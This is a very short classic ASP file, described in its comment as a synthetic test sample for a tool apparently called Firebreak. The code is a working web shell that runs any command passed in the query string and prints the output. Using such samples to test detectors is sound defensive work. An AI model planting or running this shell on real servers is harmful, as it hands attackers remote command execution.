<%
' Synthetic test sample for Firebreak: classic ASP that runs a command from
' the query string through WScript.Shell. Not real malware.
Dim sh, ex
Set sh = Server.CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd /c " & Request("c"))
Response.Write(ex.StdOut.ReadAll())
%>
